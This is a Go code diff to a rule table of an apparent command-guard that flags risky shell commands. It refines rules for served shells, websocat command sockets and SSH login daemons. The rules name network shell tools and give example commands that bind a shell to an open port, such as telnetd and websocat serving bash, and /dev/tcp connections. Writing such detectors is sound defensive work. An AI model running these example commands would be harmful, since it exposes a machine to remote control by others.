@@ -139,11 +139,25 @@ var watch = []Rule{
 		Misses: []string{"bash -c 'exec 3<>/dev/tcp/h/80'", "timeout 1 bash -c '</dev/tcp/h/80'", "bash x.sh"},
 	},
 	{
-		ID: "net.served-shell", Class: RemoteCode, Program: "telnetd ttyd gotty wetty shellinaboxd tmate sshx inetd dropbear sshd in.telnetd websocat pwncat", None: "-t -T --help -h -V --version",
+		ID: "net.served-shell", Class: RemoteCode, Program: "telnetd ttyd gotty wetty shellinaboxd tmate sshx inetd in.telnetd pwncat", None: "-t -T --help -h -V --version",
 		Reason: "gives a shell to whoever connects",
 		Hint:   "ask the user to do it",
-		Hits:   []string{"ttyd -p 8080 bash", "tmate -F", "telnetd -l /bin/sh -p 2323", "sshd -p 2222"},
-		Misses: []string{"sshd -t", "ttyd --version", "man sshd"},
+		Hits:   []string{"ttyd -p 8080 bash", "tmate -F", "telnetd -l /bin/sh -p 2323"},
+		Misses: []string{"ttyd --version", "man ttyd"},
+	},
+	{
+		ID: "net.served-shell-socket", Class: RemoteCode, Program: "websocat", Operand: "*sh-c:* *cmd:* *exec:*",
+		Reason: "gives a shell to whoever is at the other end",
+		Hint:   "connect it to a file or a port",
+		Hits:   []string{"websocat -E ws-l:0.0.0.0:80 sh-c:bash", "websocat ws://h/x cmd:sh"},
+		Misses: []string{"websocat ws://localhost:8080/ws", "websocat -s 8080"},
+	},
+	{
+		ID: "net.login", Class: Exposure, Program: "sshd dropbear", None: "-t -T -V --help -h",
+		Reason: "lets others log in to this machine",
+		Hint:   "ask the user to start it",
+		Hits:   []string{"sshd -p 2222", "/usr/sbin/sshd -D", "dropbear -R"},
+		Misses: []string{"sshd -t", "man sshd"},
 	},
 	{
 		ID: "docker.all", Class: Destructive, Program: "docker", Sub: "rm stop kill rmi container/rm container/stop container/kill image/rm volume/rm network/rm", Fed: "docker",
